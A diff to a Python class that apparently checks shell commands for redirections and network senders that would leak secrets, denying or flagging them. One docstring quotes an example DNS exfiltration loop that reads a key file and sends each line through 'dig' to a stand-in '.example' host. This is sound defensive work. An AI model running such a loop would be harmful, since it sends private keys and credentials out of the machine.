@@ -38,11 +38,12 @@ class Secrets(Carried):
         if not leaves.sends(shape):
             return
         secret = self._told(index) or self._sent(index)
-        single = is_as_header(shape) and self._is_one_value(index, shape.command.words)
-        if secret and not single and not is_its_own(secret, shape):
+        sender = senders.of(shape)
+        if sender and is_as_header(shape) and self._is_one_value(index, shape.command.words):
+            secret = self._named(index, sender)  # beside what it logs in with
+        if secret and not is_its_own(secret, shape):
             yield deny(RULE, f"{shape.name or 'a redirection'} would send {secret}")
-        sender = senders.of(shape) if not secret else None
-        given = self._handed_over(index, sender) if sender is not None else ""
+        given = self._handed_over(index, sender) if sender and not secret else ""
         if given:
             why = f"{shape.name} would give {given} to a server of this machine"
             yield ask("effect/credential", why, firm=True)
@@ -100,14 +101,23 @@ class Secrets(Carried):
                 words = tuple(
                     word
                     for before, word in itertools.pairwise(shape.command.words)
-                    if word in words and before.value not in sender.hosts
+                    if word in words
+                    and before.value not in sender.hosts
+                    and not leaves.logs_in(word)
                 )
         made = any(word.dynamic & {"command", "process"} for word in words)
         secret = self._reaching(index, words=made) or self._spoken(shape, words)
-        secret = secret or self._in_loop(shape) or self._listed(index) or self._opened(shape)
+        given = [word for word, _ in sent.given(shape, sender)]
+        lists = shape.command.appended or any("command" in word.dynamic for word in given)
+        secret = secret or self._in_loop(shape) or self._opened(shape)
+        secret = secret or (self._listed(index, reads=True) if lists else "")
         secret = secret or self._by_coprocess(shape)
-        if secret:
-            return secret
+        own = "" if self.own[index] == prints(shape) else self.own[index]
+        return secret or self._named(index, sender) or own or self._keys(shape)
+
+    def _named(self, index: int, sender: Sender) -> str:
+        """The secret in a file whose name a sender is given."""
+        shape = self.shapes[index]
         fed = [self.shapes[at] for at in sorted(self.flows.sources(index))]
 
         def text_of(path: str) -> str:
@@ -128,8 +138,7 @@ class Secrets(Carried):
             read = [one.target for one in shape.command.redirects if one.op == "<"]
             found = [p for one in read for p in paths.all_of_word(one, shape.cwds, self.facts)]
             return next(filter(None, map(self._held, found)), "")
-        own = "" if self.own[index] == prints(shape) else self.own[index]
-        return own or self._keys(shape)
+        return ""
 
     def _in_loop(self, shape: Shape) -> str:
         """`for l in $(cat key); do dig "$l.example"`: what the loop goes through is sent."""
